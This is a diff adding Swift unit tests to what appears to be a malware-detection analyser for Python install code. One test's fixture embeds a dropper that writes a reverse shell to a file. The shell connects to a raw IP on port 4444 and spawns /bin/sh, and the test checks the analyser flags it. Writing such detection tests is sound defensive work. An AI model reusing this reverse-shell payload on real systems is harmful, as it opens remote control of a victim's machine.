@@ -78,4 +78,46 @@ import Testing
         #expect(!PythonTestSupport.kinds(deep).contains(.spawnProcess))
         #expect(PythonTestSupport.kinds(deep).contains(.evalCode))
     }
+
+    @Test func codeADropperWritesIsAnalysedAtTheWrite() {
+        let analysis = PythonTestSupport.analyse(
+            """
+            CODE = \"\"\"
+            import socket, subprocess
+            s = socket.socket()
+            s.connect(("45.9.1.2", 4444))
+            subprocess.call(["/bin/sh", "-i"])
+            \"\"\"
+            class Post:
+                def run(self):
+                    f = open("remote.py", "w")
+                    f.write(CODE)
+            Post().run()
+            """, context: .install)
+        let atWrite = analysis.allBehaviours.filter { $0.line == 10 }
+        let kinds = Set(atWrite.map(\.kind))
+        #expect(
+            kinds.isSuperset(of: [.importNetworkModule, .useNetwork, .urlRawIP, .spawnProcess, .shellCommand]),
+            "\(PythonTestSupport.describe(analysis))")
+        #expect(atWrite.first { $0.kind == .spawnProcess }?.snippet == #"decoded: subprocess.call(["/bin/sh", "-i"])"#)
+        #expect(atWrite.allSatisfy { $0.context == .install })
+        let viaPath = PythonTestSupport.analyse(
+            "import pathlib\npathlib.Path('x.py').write_text('import os\\nos.system(\"id\")\\n')\n")
+        #expect(PythonTestSupport.kinds(viaPath).contains(.spawnProcess), "\(PythonTestSupport.describe(viaPath))")
+    }
+
+    @Test func writtenTextThatIsNotAProgramAddsNothing() {
+        let analysis = PythonTestSupport.analyse(
+            """
+            with open("setup.cfg", "w") as f:
+                f.write("[metadata]\\nname = demo.tool\\nurl = https://example.com/x\\n")
+            with open("_version.py", "w") as f:
+                f.write("__version__ = '1.2.3'\\n")
+            with open("notes.txt", "w") as f:
+                f.write("Run subprocess.call(x) to start.")
+            """)
+        let kinds = PythonTestSupport.kinds(analysis)
+        #expect(!kinds.contains(.spawnProcess), "\(PythonTestSupport.describe(analysis))")
+        #expect(!kinds.contains(.importProcessModule))
+    }
 }
